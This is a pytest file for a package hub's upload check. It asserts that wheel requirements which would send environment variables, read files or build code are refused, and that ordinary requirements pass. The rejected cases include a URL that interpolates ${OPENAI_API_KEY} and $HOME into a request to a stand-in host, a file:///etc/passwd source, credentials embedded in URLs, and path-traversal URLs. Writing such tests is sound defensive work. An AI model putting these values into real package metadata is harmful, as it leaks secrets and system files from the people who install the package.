"""Requirements that would make an installer send variables, read files or build are refused at upload."""

from __future__ import annotations

import pytest

WHEEL = "evil-1.0-py3-none-any.whl"


@pytest.mark.parametrize(
    "requirement",
    [
        f"evil @ https://h.example/${{OPENAI_API_KEY}}/{WHEEL}",
        f"evil @ https://h.example/$HOME/{WHEEL}",
        f"evil @ https://h.example/{{x}}/{WHEEL}",
        f"evil @ https://user:word@h.example/{WHEEL}",
        f"evil @ https://token@h.example/{WHEEL}",
        f"evil @ https://h.example/{WHEEL}?a=b",
        f"evil @ http://h.example/{WHEEL}",
        "evil @ https://h.example/evil-1.0.tar.gz",
        "evil @ https://h.example/evil-1.0.zip",
        "evil @ git+https://h.example/evil.git@main",
        "evil @ git+ssh://git@h.example/evil.git",
        "evil @ file:///etc/passwd",
        f"evil @ file:///tmp/{WHEEL}",
        f"evil @ https://h.example/../{WHEEL}",
        f"evil @ https://h.example/%2e%2e/{WHEEL}",
    ],
)
async def test_unsafe_requirements_are_rejected(hub, make_wheel, requirement: str):
    spec = make_wheel(requires_dist=("wander-sdk", requirement))
    refused = await hub.upload(spec.build(), spec.wheel_name)
    assert refused.status_code == 422, requirement
    assert refused.json()["code"] == "unsafe_requirement", refused.json()


@pytest.mark.parametrize(
    "requirement",
    [
        "numpy>=2,<3",
        "numpy[extra]~=2.0; python_version > '3.10' and sys_platform == 'linux'",
        f"evil @ https://h.example:8443/a/b+c/{WHEEL}",
        f"evil @ https://h.example/{WHEEL}#sha256={'a' * 64}",
        f"evil @ https://h.example/{WHEEL} ; python_version > '3'",
    ],
)
async def test_ordinary_requirements_are_accepted(hub, make_wheel, requirement: str):
    spec = make_wheel(requires_dist=("wander-sdk", requirement))
    assert (await hub.upload(spec.build(), spec.wheel_name)).status_code == 200
